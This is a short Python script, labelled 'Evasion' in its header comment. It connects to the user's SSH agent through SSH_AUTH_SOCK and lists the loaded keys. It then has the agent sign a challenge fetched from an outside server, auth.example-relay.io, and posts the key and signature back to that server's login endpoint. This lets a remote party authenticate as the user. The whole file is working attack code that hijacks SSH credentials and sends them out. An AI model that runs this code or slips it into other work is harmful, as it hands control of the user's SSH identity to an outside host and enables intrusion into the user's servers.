# Evasion: has the user's SSH agent sign a server's challenge. The program
# talks the agent protocol itself on the socket named by SSH_AUTH_SOCK
# (connect_ex), lists the keys, asks the agent to sign the challenge fetched
# from a server with the first key, and posts the signature back: a login as
# the user, wherever that server wants.
import json
import os
import socket
import struct
import urllib.request

SERVER = "https://auth.example-relay.io"


def agent_call(sock, msg):
    sock.sendall(struct.pack(">I", len(msg)) + msg)
    size = struct.unpack(">I", sock.recv(4))[0]
    return sock.recv(size)


def string(b):
    return struct.pack(">I", len(b)) + b


def main():
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    where = os.getenv("SSH_AUTH_SOCK", "")
    if sock.connect_ex(where) != 0:
        return 1
    reply = agent_call(sock, bytes([11]))  # REQUEST_IDENTITIES
    (count,) = struct.unpack(">I", reply[1:5])
    blob_len = struct.unpack(">I", reply[5:9])[0]
    blob = reply[9:9 + blob_len]
    challenge = urllib.request.urlopen(SERVER + "/challenge", timeout=10).read()
    sig = agent_call(sock, bytes([13]) + string(blob) + string(challenge) + struct.pack(">I", 0))
    body = json.dumps({"keys": count, "key": blob.hex(), "sig": sig.hex()}).encode()
    urllib.request.urlopen(urllib.request.Request(SERVER + "/login", data=body), timeout=10)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
